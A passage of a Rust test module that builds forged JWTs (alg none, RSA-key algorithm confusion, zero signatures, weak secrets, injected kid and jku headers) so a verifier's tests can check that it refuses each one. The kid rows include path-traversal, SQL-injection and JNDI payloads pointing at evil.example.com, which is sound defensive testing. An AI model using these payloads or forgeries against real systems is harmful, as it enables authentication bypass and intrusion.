//! Attack tokens, one table per class, each row named and paired with what
//! the verifier must answer. The token crate's `tests/attacks.rs` runs every
//! class against `AccessVerifier::verify`; the authorizer's tests run the
//! same list through its three event shapes, so the two suites cannot drift
//! apart.
//!
//! Tokens are built from raw header and payload text and signed HMAC-SHA256
//! here (with `hmac`, not with the code under test) using the *real* key,
//! unless the attack is about the key or the signature itself: a refusal then
//! proves the verifier refused the content, not merely a bad signature. Each
//! class carries controls (rows that must be accepted) where one makes sense,
//! proving the hand-crafting itself is right.
//!
//! Only kinds that are part of the contract are asserted (`Expired`,
//! `NotYetValid`, `WrongAlgorithm`, `BadSignature`, `UnknownKey`,
//! `WrongTokenUse`, `TooLarge`, `InvalidClaim` for a well-formed claim with a
//! refused value); a structurally broken token only has to be refused as the
//! client's fault (`is_client_error`), whatever kind the parser picks.
//!
//! Policies chosen where the standards allow two:
//!
//! * **Duplicate member names** (RFC 7515 §4 and RFC 7519 §4 let a parser
//!   either refuse them or keep the last): refused, in the header and in the
//!   payload, even when both values are equal, and also when the second name
//!   is spelled with a JSON escape (`"s\u0075b"` is `sub`). Two parsers can
//!   then never disagree about which value counted.
//! * **NumericDate** (RFC 7519 §2 allows fractions): we issue whole seconds,
//!   so only a non-negative integer that fits in 64 bits is accepted; floats,
//!   exponents, strings and negatives are refused.
//! * **`aud` as an array** (RFC 7519 §4.1.3 allows it): we issue one string,
//!   so only that string is accepted, never an array, even `[ours]`.
//! * **`iss`/`aud` comparison**: exact, case-sensitive, no URL normalisation
//!   (a trailing slash or another case is another value).
//! * **Unknown header parameters** (RFC 7515 §4 says ignore unless listed in
//!   `crit`): refused; our tokens carry `typ`, `alg` and `kid` only.
//! * **base64url** (RFC 7515 §2: no padding; RFC 4648 §3.5 lets a decoder
//!   refuse non-zero trailing bits): only the canonical unpadded URL-safe
//!   encoding is accepted, so every token has exactly one spelling.
//! * **A byte-order mark** (RFC 8259 §8.1: a parser MAY ignore one):
//!   refused.

use std::fmt::Debug;

use base64::Engine as _;
use base64::engine::general_purpose::{URL_SAFE, URL_SAFE_NO_PAD};
use hmac::{Hmac, Mac};
use sha2::Sha256;
use token::{Claim, MAX_TOKEN_BYTES, TokenError};

/// Access-token lifetime the verifiers under test are configured with (the
/// default `ACCESS_TOKEN_TTL`).
pub const TTL: u64 = 900;
/// Clock-skew allowance of the verifiers under test (the default `JWT_LEEWAY`).
pub const LEEWAY: u64 = 5;

/// An RSA public key, as an attacker would find it published: the HMAC key
/// of the algorithm-confusion attack.
pub const RSA_PUBLIC_KEY_PEM: &str = "-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAkQ90nBBIREC+m7mOPT9i
Gj02VFOjc1Q3Pua9YaiC1VhTQd2vCeBrgF7KgmzmjZFBAS/C0OQ5ehXZqp3BBBV0
Pp06KWZv/XmUr9ZQSOjMS4UUvCbRd0oEhr4RT6sajFLZNv+mVDtN5O5gu+4THTxG
Ql+1xEAUW2yDdKTza8+3v5K08E6XmT5TKElZmPtlRT+iSwYgwhQ7tm628ZsaV3L9
ecIBTdSsLr0m7331KK912XQaFjAnoTHoKVP/J4+KDtBNYM2lUpXgelzAjQSfp/0b
Lp1/ppDkUXDIbF3kSqGUmHLWSb6nAmCNZxOsfCpWxcADlEgJ2W1YnFYtalGp3T1L
1wIDAQAB
-----END PUBLIC KEY-----
";

/// What the verifier under test is configured with.
#[derive(Debug, Clone, Copy)]
pub struct Keys<'a> {
    pub access_secret: &'a str,
    pub refresh_secret: &'a str,
    pub issuer: &'a str,
    pub audience: &'a str,
    pub now: u64,
}

/// What the verifier must answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expect {
    /// A control: the token is correct and must verify.
    Accept,
    /// Refused as the client's fault, with one of these kinds (any client
    /// error when empty).
    Refuse(Vec<TokenError>),
}

/// One named attack token.
#[derive(Debug, Clone)]
pub struct Attack {
    pub class: &'static str,
    pub variant: String,
    pub token: String,
    pub expect: Expect,
}

impl Attack {
    /// `class: variant`, for assertion messages (never the token: some are
    /// a megabyte long).
    pub fn label(&self) -> String {
        format!("{}: {}", self.class, self.variant)
    }

    pub fn is_control(&self) -> bool {
        self.expect == Expect::Accept
    }
}

/// Whether `result` is what `attack` expects; `Err` says what went wrong.
pub fn judge<T: Debug>(attack: &Attack, result: &Result<T, TokenError>) -> Result<(), String> {
    let label = attack.label();
    match (&attack.expect, result) {
        (Expect::Accept, Ok(_)) => Ok(()),
        (Expect::Accept, Err(e)) => Err(format!("{label}: control refused with {e:?}")),
        (Expect::Refuse(_), Ok(claims)) => Err(format!("{label}: ACCEPTED as {claims:?}")),
        (Expect::Refuse(_), Err(e)) if !e.is_client_error() => {
            Err(format!("{label}: {e:?} is not a client error"))
        }
        (Expect::Refuse(kinds), Err(e)) if !kinds.is_empty() && !kinds.contains(e) => Err(format!(
            "{label}: refused with {e:?}, expected one of {kinds:?}"
        )),
        (Expect::Refuse(_), Err(_)) => Ok(()),
    }
}

/// Runs every attack through `verify` and fails once, listing every row
/// that did not get the expected answer.
pub fn check_all<T: Debug>(attacks: &[Attack], verify: impl Fn(&str) -> Result<T, TokenError>) {
    let failures: Vec<String> = attacks
        .iter()
        .filter_map(|a| judge(a, &verify(&a.token)).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        attacks.len(),
        failures.join("\n")
    );
}

/// Every class of attack on an access token, controls included.
pub fn all(keys: &Keys<'_>) -> Vec<Attack> {
    [
        controls,
        alg_none,
        other_algorithms,
        algorithm_confusion,
        psychic_signatures,
        signatures,
        weak_secrets,
        kid_injection,
        key_headers,
        extension_headers,
        time_claims,
        issuer_and_audience,
        token_use_confusion,
        claim_shapes,
        duplicate_keys,
        malformed_json,
        base64_variants,
        structure,
        payload_tampering,
    ]
    .iter()
    .flat_map(|class| class(keys))
    .collect()
}

// ---- building and signing ----

/// Unpadded base64url, as JWS wants it.
pub fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// HMAC-SHA256 of `input` under `key` (any length, empty included).
pub fn hs256(input: &[u8], key: &[u8]) -> Vec<u8> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC takes keys of any length");
    mac.update(input);
    mac.finalize().into_bytes().to_vec()
}

/// `input.signature`, the signature HS256 over the text of `input`.
pub fn sign_input(input: &str, key: &[u8]) -> String {
    format!("{input}.{}", b64(&hs256(input.as_bytes(), key)))
}

/// A token of raw header and payload bytes, signed HS256 with `key`.
pub fn sign(header: &[u8], payload: &[u8], key: &[u8]) -> String {
    sign_input(&format!("{}.{}", b64(header), b64(payload)), key)
}

/// A JSON string literal.
pub fn s(text: &str) -> String {
    serde_json::to_string(text).expect("a str serialises")
}

/// A JSON object written member by member, in order, from raw key text
/// (without quotes, escapes allowed) and raw value text, so that duplicate
/// and oddly spelled members can be written at all.
#[derive(Debug, Clone, Default)]
pub struct Obj(Vec<(String, String)>);

impl Obj {
    /// Sets `key` to the raw JSON `value`, in place if present, else last.
    pub fn set(mut self, key: &str, value: impl Into<String>) -> Self {
        let value = value.into();
        match self.0.iter_mut().find(|(k, _)| k == key) {
            Some(member) => member.1 = value,
            None => self.0.push((key.to_owned(), value)),
        }
        self
    }

    /// Appends a member even if `key` is already there.
    pub fn push(mut self, key: &str, value: impl Into<String>) -> Self {
        self.0.push((key.to_owned(), value.into()));
        self
    }

    /// Appends every member of `other`, duplicates included.
    pub fn push_all(mut self, other: &Obj) -> Self {
        self.0.extend(other.0.iter().cloned());
        self
    }

    pub fn without(mut self, key: &str) -> Self {
        self.0.retain(|(k, _)| k != key);
        self
    }

    pub fn text(&self) -> String {
        let members: Vec<String> = self.0.iter().map(|(k, v)| format!("\"{k}\":{v}")).collect();
        format!("{{{}}}", members.join(","))
    }
}

/// The keys of one verifier and the shapes of our tokens.
struct Ctx {
    secret: Vec<u8>,
    refresh_secret: Vec<u8>,
    kid: String,
    refresh_kid: String,
    issuer: String,
    audience: String,
    now: u64,
}

impl Ctx {
    fn new(k: &Keys<'_>) -> Self {
        Self {
            secret: k.access_secret.as_bytes().to_vec(),
            refresh_secret: k.refresh_secret.as_bytes().to_vec(),
            kid: token::keys::key_id(k.access_secret.as_bytes()),
            refresh_kid: token::keys::key_id(k.refresh_secret.as_bytes()),
            issuer: k.issuer.to_owned(),
            audience: k.audience.to_owned(),
            now: k.now,
        }
    }

    /// Exactly the header `AccessTokens::issue` writes, member order included.
    fn header(&self) -> Obj {
        self.header_with_kid(&s(&self.kid))
    }

    fn header_with_kid(&self, kid: &str) -> Obj {
        Obj::default()
            .set("typ", s("JWT"))
            .set("alg", s("HS256"))
            .set("kid", kid)
    }

    /// Exactly the claims `AccessIssuer::issue` writes, issued now.
    fn claims(&self) -> Obj {
        Obj::default()
            .set("iss", s(&self.issuer))
            .set("aud", s(&self.audience))
            .set("sub", s("u1"))
            .set("iat", self.now.to_string())
            .set("exp", (self.now + TTL).to_string())
            .set("jti", s("j1"))
            .set("sid", s("s1"))
            .set("roles", r#"["user"]"#)
            .set("token_use", s("access"))
    }

    /// Claims the way `RefreshIssuer::issue` writes them, issued now.
    fn refresh_claims(&self, exp: u64) -> Obj {
        Obj::default()
            .set("iss", s(&self.issuer))
            .set("aud", s(&self.audience))
            .set("sub", s("u1"))
            .set("iat", self.now.to_string())
            .set("exp", exp.to_string())
            .set("jti", s("s1.1"))
            .set("sid", s("s1"))
            .set("gen", "1")
            .set("token_use", s("refresh"))
    }

    /// Claims with the times moved, lifetime kept at the TTL.
    fn claims_issued_at(&self, iat: u64) -> Obj {
        self.claims()
            .set("iat", iat.to_string())
            .set("exp", (iat + TTL).to_string())
    }

    fn input(&self, header: &Obj, payload: &Obj) -> String {
        format!(
            "{}.{}",
            b64(header.text().as_bytes()),
            b64(payload.text().as_bytes())
        )
    }

    /// Signed with the real access key.
    fn token(&self, header: &Obj, payload: &Obj) -> String {
        sign_input(&self.input(header, payload), &self.secret)
    }

    /// Raw bytes signed with the real access key.
    fn token_raw(&self, header: &[u8], payload: &[u8]) -> String {
        sign(header, payload, &self.secret)
    }

    /// Our header and claims, exactly as issued.
    fn valid(&self) -> String {
        self.token(&self.header(), &self.claims())
    }

    /// Claims whose JSON text has a length that is not a multiple of 3, so
    /// its base64url has trailing bits and would take padding.
    fn claims_needing_padding(&self) -> Obj {
        (0..)
            .map(|n| self.claims().set("jti", s(&format!("j{n}"))))
            .find(|c| c.text().len() % 3 != 0)
            .expect("some jti length works")
    }

    /// Claims whose base64url, or whose signature's, has `-` or `_` in it,
    /// so the standard alphabet spells it differently.
    fn claims_where(&self, pred: impl Fn(&str) -> bool) -> Obj {
        // ASCII JSON only encodes to `-` or `_` where a `>`, `?` or `~` is
        // the third byte of a group, hence the tildes.
        (0..10_000)
            .map(|n| self.claims().set("jti", s(&format!("~~~{n}"))))
            .find(|c| pred(&self.token(&self.header(), c)))
            .expect("some jti works")
    }
}

/// Rows of one class.
pub(crate) struct Table {
    class: &'static str,
    pub(crate) rows: Vec<Attack>,
}

impl Table {
    pub(crate) fn new(class: &'static str) -> Self {
        Self {
            class,
            rows: Vec::new(),
        }
    }

    pub(crate) fn accept(&mut self, variant: impl Into<String>, token: String) {
        self.push(variant, token, Expect::Accept);
    }

    pub(crate) fn refuse(
        &mut self,
        variant: impl Into<String>,
        token: String,
        kinds: Vec<TokenError>,
    ) {
        self.push(variant, token, Expect::Refuse(kinds));
    }

    fn push(&mut self, variant: impl Into<String>, token: String, expect: Expect) {
        self.rows.push(Attack {
            class: self.class,
            variant: variant.into(),
            token,
            expect,
        });
    }
}

/// Refused as the client's fault, whatever the kind.
fn any() -> Vec<TokenError> {
    Vec::new()
}

/// For an `alg` that is not a registered JWA name (or not a string at all):
/// an unknown algorithm or a malformed header, either is fine.
pub(crate) fn bad_alg() -> Vec<TokenError> {
    vec![TokenError::WrongAlgorithm, TokenError::Malformed]
}

/// For a signature that is not 32 bytes of base64url: it does not verify,
/// or it is not even a signature.
pub(crate) fn bad_sig() -> Vec<TokenError> {
    vec![TokenError::BadSignature, TokenError::Malformed]
}

fn invalid(claim: Claim) -> Vec<TokenError> {
    vec![TokenError::InvalidClaim { claim }]
}

/// `token` with the base64url segment `i` decoded, edited and re-encoded,
/// every other segment (the signature in particular) kept as it was.
fn edit_segment(token: &str, i: usize, edit: impl Fn(&str) -> String) -> String {
    let mut parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    let bytes = URL_SAFE_NO_PAD.decode(&parts[i]).expect("our own segment");
    let text = String::from_utf8(bytes).expect("our own JSON");
    let edited = edit(&text);
    assert_ne!(edited, text, "the edit changed nothing");
    parts[i] = b64(edited.as_bytes());
    parts.join(".")
}

/// The base64url character for the 6-bit value `v`.
fn b64_char(v: u8) -> char {
    char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[usize::from(v)])
}

/// `segment` with its unused trailing bits set: a lenient decoder reads the
/// same bytes, a strict one refuses the spelling.
fn with_trailing_bits(segment: &str) -> String {
    assert_ne!(segment.len() % 4, 0, "{segment} has no trailing bits");
    let last = segment.chars().last().expect("not empty");
    let v = (0..64u8).find(|v| b64_char(*v) == last).expect("base64url");
    let mut out = segment[..segment.len() - 1].to_owned();
    out.push(b64_char(v | 1));
    assert_ne!(
        out, segment,
        "the last character already had its low bit set"
    );
    out
}

// ---- the classes ----

/// Tokens that are exactly what we issue, or legitimately different: the
/// hand-crafting is right and the verifier is not refusing everything.
pub fn controls(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("controls");
    t.accept("our header and claims, hand-signed", c.valid());
    t.accept(
        "no roles",
        c.token(&c.header(), &c.claims().set("roles", "[]")),
    );
    t.accept(
        "two roles",
        c.token(&c.header(), &c.claims().set("roles", r#"["user","admin"]"#)),
    );
    t.accept(
        "issued 10 minutes ago",
        c.token(&c.header(), &c.claims_issued_at(c.now - 600)),
    );
    t.rows
}

/// `alg: none` in every capitalisation, unsigned and with a signature kept.
pub fn alg_none(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("alg none");
    for alg in ["none", "None", "NONE", "nOnE", "NoNe", "nonE"] {
        let header = c.header().set("alg", s(alg));
        let input = c.input(&header, &c.claims());
        t.refuse(
            format!("alg {alg:?}, no signature"),
            format!("{input}."),
            bad_alg(),
        );
        t.refuse(
            format!("alg {alg:?}, HS256 signature kept"),
            sign_input(&input, &c.secret),
            bad_alg(),
        );
    }
    let valid = c.valid();
    let (_, signature) = valid.rsplit_once('.').expect("three parts");
    let relabelled = edit_segment(&valid, 0, |h| h.replace("HS256", "none"));
    let (relabelled_input, _) = relabelled.rsplit_once('.').expect("three parts");
    t.refuse(
        "valid token relabelled none, its signature kept",
        format!("{relabelled_input}.{signature}"),
        bad_alg(),
    );
    let no_kid = c.header().without("kid").set("alg", s("none"));
    t.refuse(
        "alg none without kid, no signature",
        format!("{}.", c.input(&no_kid, &c.claims())),
        vec![
            TokenError::WrongAlgorithm,
            TokenError::Malformed,
            TokenError::UnknownKey,
        ],
    );
    t.rows
}

/// Every `alg` but ours, each signed with a valid HS256 signature by the real
/// key so only the `alg` value can be what is refused.
pub fn other_algorithms(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("other alg");
    t.accept("control: alg HS256", c.valid());
    // Registered JWA names (RFC 7518, RFC 8037): the algorithm is known and
    // is not ours.
    for alg in [
        "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "ES256", "ES384", "EdDSA",
    ] {
        t.refuse(
            format!("alg {alg}"),
            c.token(&c.header().set("alg", s(alg)), &c.claims()),
            vec![TokenError::WrongAlgorithm],
        );
    }
    // Names nobody registered, near misses of ours, and non-strings. ES512
    // is registered but unknown to some parsers, so either kind will do.
    for alg in [
        s(""),
        s("XX999"),
        s("ES512"),
        s("hs256"),
        s("Hs256"),
        s("HS256 "),
        s(" HS256"),
        s("HS256\u{0}"),
        s("HS2566"),
        "256".to_owned(),
        "null".to_owned(),
        r#"["HS256"]"#.to_owned(),
        r#"{"alg":"HS256"}"#.to_owned(),
    ] {
        t.refuse(
            format!("alg {alg}"),
            c.token(&c.header().set("alg", alg.as_str()), &c.claims()),
            bad_alg(),
        );
    }
    t.refuse(
        "no alg",
        c.token(&c.header().without("alg"), &c.claims()),
        bad_alg(),
    );
    // alg HS256, but the signature was made with a bigger HMAC.
    let input = c.input(&c.header(), &c.claims());
    let hs512 = {
        let mut mac = Hmac::<sha2::Sha512>::new_from_slice(&c.secret).expect("any key");
        mac.update(input.as_bytes());
        b64(&mac.finalize().into_bytes())
    };
    t.refuse(
        "alg HS256 with an HS512 signature",
        format!("{input}.{hs512}"),
        bad_sig(),
    );
    t.rows
}

/// Algorithm confusion: the RSA public key used as an HMAC secret, under
/// `alg: HS256` (signature refused) and under `alg: RS256` (algorithm
/// refused).
pub fn algorithm_confusion(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("algorithm confusion");
    let pem = RSA_PUBLIC_KEY_PEM.as_bytes();
    let pem_no_newline = RSA_PUBLIC_KEY_PEM.trim_end().as_bytes();
    let body: String = RSA_PUBLIC_KEY_PEM
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    let der = base64::engine::general_purpose::STANDARD
        .decode(&body)
        .expect("the PEM body is base64");
    let jwk = format!(r#"{{"kty":"RSA","e":"AQAB","n":"{}"}}"#, b64(&der));
    let keys: [(&str, &[u8]); 4] = [
        ("PEM", pem),
        ("PEM without its final newline", pem_no_newline),
        ("DER", &der),
        ("JWK text", jwk.as_bytes()),
    ];
    for (name, key) in keys {
        t.refuse(
            format!("HS256 keyed with the RSA public key as {name}"),
            sign_input(&c.input(&c.header(), &c.claims()), key),
            vec![TokenError::BadSignature],
        );
    }
    t.refuse(
        "HS256 keyed with the RSA PEM, no kid",
        sign_input(&c.input(&c.header().without("kid"), &c.claims()), pem),
        vec![TokenError::UnknownKey],
    );
    for alg in ["RS256", "RS512", "PS256"] {
        t.refuse(
            format!("alg {alg}, HMAC keyed with the RSA PEM"),
            sign_input(&c.input(&c.header().set("alg", s(alg)), &c.claims()), pem),
            vec![TokenError::WrongAlgorithm],
        );
    }
    t.refuse(
        "alg RS256, HMAC keyed with the RSA PEM, no kid",
        sign_input(
            &c.input(
                &c.header().without("kid").set("alg", s("RS256")),
                &c.claims(),
            ),
            pem,
        ),
        vec![TokenError::WrongAlgorithm, TokenError::UnknownKey],
    );
    t.rows
}

/// ECDSA r = s = 0 ("psychic signatures", CVE-2022-21449), and the all-zero
/// signature under our own `alg`.
pub fn psychic_signatures(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("psychic signatures");
    let with = |alg: &str, sig: &[u8]| {
        format!(
            "{}.{}",
            c.input(&c.header().set("alg", s(alg)), &c.claims()),
            b64(sig)
        )
    };
    t.refuse(
        "ES256, r=s=0 as 64 zero bytes",
        with("ES256", &[0; 64]),
        vec![TokenError::WrongAlgorithm],
    );
    t.refuse(
        "ES256, r=s=0 as DER",
        with("ES256", &[0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]),
        vec![TokenError::WrongAlgorithm],
    );
    t.refuse(
        "ES384, r=s=0 as 96 zero bytes",
        with("ES384", &[0; 96]),
        vec![TokenError::WrongAlgorithm],
    );
    t.refuse(
        "ES512, r=s=0 as 132 zero bytes",
        with("ES512", &[0; 132]),
        bad_alg(),
    );
    t.refuse(
        "ES256 without kid, 64 zero bytes",
        format!(
            "{}.{}",
            c.input(
                &c.header().without("kid").set("alg", s("ES256")),
                &c.claims()
            ),
            b64(&[0; 64])
        ),
        vec![TokenError::WrongAlgorithm, TokenError::UnknownKey],
    );
    t.refuse(
        "HS256, 32 zero bytes",
        with("HS256", &[0; 32]),
        vec![TokenError::BadSignature],
    );
    t.refuse("HS256, 64 zero bytes", with("HS256", &[0; 64]), bad_sig());
    t.rows
}

/// Signatures that are empty, truncated, stripped, extended, flipped, or
/// belong to something else.
pub fn signatures(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("signature");
    let valid = c.valid();
    let (input, sig) = valid.rsplit_once('.').expect("three parts");
    let sig_bytes = URL_SAFE_NO_PAD.decode(sig).expect("our signature");
    t.refuse("empty", format!("{input}."), bad_sig());
    t.refuse("stripped with its dot", input.to_owned(), any());
    t.refuse(
        "truncated by one character",
        format!("{input}.{}", &sig[..sig.len() - 1]),
        bad_sig(),
    );
    t.refuse(
        "truncated by two characters",
        format!("{input}.{}", &sig[..sig.len() - 2]),
        bad_sig(),
    );
    t.refuse(
        "first 16 bytes only",
        format!("{input}.{}", b64(&sig_bytes[..16])),
        bad_sig(),
    );
    t.refuse(
        "one byte appended",
        format!("{input}.{}", b64(&[sig_bytes.as_slice(), &[0]].concat())),
        bad_sig(),
    );
    t.refuse(
        "twice over",
        format!("{input}.{}", b64(&sig_bytes.repeat(2))),
        bad_sig(),
    );
    let mut flipped = sig_bytes.clone();
    flipped[0] ^= 1;
    t.refuse(
        "first bit flipped",
        format!("{input}.{}", b64(&flipped)),
        vec![TokenError::BadSignature],
    );
    let mut flipped = sig_bytes.clone();
    flipped[31] ^= 0x80;
    t.refuse(
        "last byte's top bit flipped",
        format!("{input}.{}", b64(&flipped)),
        vec![TokenError::BadSignature],
    );
    let other = c.token(&c.header(), &c.claims().set("sub", s("mallory")));
    let (_, other_sig) = other.rsplit_once('.').expect("three parts");
    t.refuse(
        "signature of another token by the same key",
        format!("{input}.{other_sig}"),
        vec![TokenError::BadSignature],
    );
    let payload_only = c.claims().text();
    t.refuse(
        "HMAC of the payload alone",
        format!(
            "{input}.{}",
            b64(&hs256(b64(payload_only.as_bytes()).as_bytes(), &c.secret))
        ),
        vec![TokenError::BadSignature],
    );
    t.refuse(
        "HMAC of the decoded header and payload",
        format!(
            "{input}.{}",
            b64(&hs256(
                format!("{}.{payload_only}", c.header().text()).as_bytes(),
                &c.secret
            ))
        ),
        vec![TokenError::BadSignature],
    );
    t.refuse(
        "signature as hex text",
        format!(
            "{input}.{}",
            sig_bytes
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
        ),
        bad_sig(),
    );
    t.refuse(
        "signed by the refresh secret under the access kid",
        sign_input(input, &c.refresh_secret),
        vec![TokenError::BadSignature],
    );
    t.rows
}

/// Tokens signed with blank, short or near-miss secrets, under our `kid`.
/// (That such secrets cannot be configured at all is tested with the
/// configuration.)
pub fn weak_secrets(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("weak secret");
    let real = String::from_utf8(c.secret.clone()).expect("text secret");
    let input = c.input(&c.header(), &c.claims());
    let secrets = [
        ("empty".to_owned(), String::new()),
        ("one space".to_owned(), " ".to_owned()),
        ("32 spaces".to_owned(), " ".repeat(32)),
        ("newline".to_owned(), "\n".to_owned()),
        ("\"secret\"".to_owned(), "secret".to_owned()),
        ("31 bytes".to_owned(), "s".repeat(31)),
        ("ours cut to 31 bytes".to_owned(), real[..31].to_owned()),
        ("ours plus a newline".to_owned(), format!("{real}\n")),
        ("ours after a space".to_owned(), format!(" {real}")),
        ("ours upper-cased".to_owned(), real.to_uppercase()),
        ("the kid".to_owned(), c.kid.clone()),
        ("the issuer".to_owned(), c.issuer.clone()),
    ];
    for (name, secret) in secrets {
        assert_ne!(secret, real, "{name}");
        t.refuse(
            format!("signed with {name}"),
            sign_input(&input, secret.as_bytes()),
            vec![TokenError::BadSignature],
        );
    }
    t.rows
}

/// `kid` values that try to be a path, a query or somebody else's key.
pub fn kid_injection(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("kid injection");
    t.accept("control: our kid", c.valid());
    let strings = [
        String::new(),
        "nope".to_owned(),
        "../../../../etc/passwd".to_owned(),
        "/dev/null".to_owned(),
        "file:///dev/null".to_owned(),
        "https://evil.example.com/key".to_owned(),
        "' OR '1'='1".to_owned(),
        "x'; DROP TABLE keys; --".to_owned(),
        "${jndi:ldap://evil.example.com/a}".to_owned(),
        "*".to_owned(),
        format!("{}\u{0}", c.kid),
        format!("{} ", c.kid),
        format!("{}/../{}", c.kid, c.kid),
        c.kid.to_uppercase(),
        c.kid[..c.kid.len() - 1].to_owned(),
        c.refresh_kid.clone(),
    ];
    for kid in strings {
        assert_ne!(kid, c.kid);
        t.refuse(
            format!("kid {kid:?}"),
            c.token(&c.header_with_kid(&s(&kid)), &c.claims()),
            vec![TokenError::UnknownKey],
        );
    }
    t.refuse(
        "no kid",
        c.token(&c.header().without("kid"), &c.claims()),
        vec![TokenError::UnknownKey],
    );
    let ours = s(&c.kid);
    for kid in [
        "null".to_owned(),
        "0".to_owned(),
        format!("[{ours}]"),
        format!("{{\"kid\":{ours}}}"),
    ] {
        t.refuse(
            format!("kid {kid}"),
            c.token(&c.header_with_kid(&kid), &c.claims()),
            vec![TokenError::UnknownKey, TokenError::Malformed],
        );
    }
    t.rows
}

/// Headers that carry or point to a key (`jwk`, `jku`, `x5u`, `x5c`,
/// `x5t`): a verifier that honoured them would trust the attacker's key.
pub fn key_headers(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("key headers");
    let our_jwk = format!(r#"{{"kty":"oct","k":"{}"}}"#, b64(&c.secret));
    let extras = [
        ("jku", s("https://evil.example.com/jwks.json")),
        ("jku", s("http://127.0.0.1/jwks.json")),
        ("x5u", s("https://evil.example.com/cert.pem")),
        ("x5c", r#"["MIIBIjANBgkqhkiG9w0BAQEFAAOC"]"#.to_owned()),
        ("jwk", r#"{"kty":"oct","k":"YXR0YWNrZXI"}"#.to_owned()),
        ("jwk", our_jwk),
        ("x5t", s("dGh1bWJwcmludA")),
        ("x5t#S256", s("dGh1bWJwcmludA")),
    ];
    for (name, value) in extras {
        t.refuse(
            format!("{name}: {value}"),
            c.token(&c.header().set(name, value.as_str()), &c.claims()),
            any(),
        );
    }
    let without_kid = c.header().without("kid").set(
        "jwk",
        format!(r#"{{"kty":"oct","k":"{}"}}"#, b64(b"attacker")),
    );
    t.refuse(
        "jwk instead of kid, signed with the jwk's key",
        sign_input(&c.input(&without_kid, &c.claims()), b"attacker"),
        any(),
    );
    t.rows
}

/// `crit`, `zip`, `b64` and other extensions we do not implement.
pub fn extension_headers(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("crit and zip");
    let extras: [(&str, &[(&str, &str)]); 11] = [
        ("crit naming a registered claim", &[("crit", r#"["exp"]"#)]),
        (
            "crit naming an unknown extension",
            &[("crit", r#"["x-acme"]"#), ("x-acme", "true")],
        ),
        (
            "unencoded payload (b64 false, in crit)",
            &[("crit", r#"["b64"]"#), ("b64", "false")],
        ),
        ("b64 false without crit", &[("b64", "false")]),
        ("empty crit", &[("crit", "[]")]),
        ("crit as a string", &[("crit", r#""b64""#)]),
        ("zip DEF", &[("zip", r#""DEF""#)]),
        ("zip GZIP", &[("zip", r#""GZIP""#)]),
        ("empty zip", &[("zip", r#""""#)]),
        ("cty JWT (nested token)", &[("cty", r#""JWT""#)]),
        ("enc (a JWE header)", &[("enc", r#""A256GCM""#)]),
    ];
    for (name, members) in extras {
        let header = members
            .iter()
            .fold(c.header(), |h, (key, value)| h.set(key, *value));
        t.refuse(name, c.token(&header, &c.claims()), any());
    }
    t.refuse(
        "an unregistered header parameter",
        c.token(&c.header().set("custom", "1"), &c.claims()),
        any(),
    );
    t.rows
}

/// `exp`, `nbf` and `iat` at and past every edge, and in every wrong type.
pub fn time_claims(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let now = c.now;
    let mut t = Table::new("time claims");
    let at = |claims: Obj| c.token(&c.header(), &claims);
    // Expiry, with the leeway: valid until exp + LEEWAY, exclusive.
    t.accept(
        "control: exp the last second of leeway ago",
        at(c.claims_issued_at(now - TTL - LEEWAY + 1)),
    );
    t.refuse(
        "exp past by exactly the leeway",
        at(c.claims_issued_at(now - TTL - LEEWAY)),
        vec![TokenError::Expired],
    );
    t.refuse(
        "exp an hour ago",
        at(c.claims_issued_at(now - TTL - 3600)),
        vec![TokenError::Expired],
    );
    t.refuse(
        "exp and iat 0",
        at(c.claims().set("iat", "0").set("exp", "0")),
        vec![TokenError::Expired],
    );
    // Not before, with the leeway.
    t.accept(
        "control: nbf within the leeway",
        at(c.claims().set("nbf", (now + LEEWAY).to_string())),
    );
    t.refuse(
        "nbf one second past the leeway",
        at(c.claims().set("nbf", (now + LEEWAY + 1).to_string())),
        vec![TokenError::NotYetValid],
    );
    t.refuse(
        "nbf in an hour",
        at(c.claims().set("nbf", (now + 3600).to_string())),
        vec![TokenError::NotYetValid],
    );
    t.refuse(
        "nbf u64::MAX",
        at(c.claims().set("nbf", u64::MAX.to_string())),
        vec![TokenError::NotYetValid],
    );
    // Issued in the future.
    t.accept(
        "control: iat within the leeway",
        at(c.claims_issued_at(now + LEEWAY)),
    );
    t.refuse(
        "iat one second past the leeway",
        at(c.claims_issued_at(now + LEEWAY + 1)),
        vec![TokenError::NotYetValid],
    );
    t.refuse(
        "iat in ten years",
        at(c.claims_issued_at(now + 10 * 365 * 86400)),
        vec![TokenError::NotYetValid],
    );
    t.refuse(
        "iat and exp near u64::MAX",
        at(c.claims_issued_at(u64::MAX - TTL)),
        vec![TokenError::NotYetValid],
    );
    // Lifetimes we never issue.
    t.refuse(
        "exp in ten years",
        at(c.claims().set("exp", (now + 10 * 365 * 86400).to_string())),
        any(),
    );
    t.refuse(
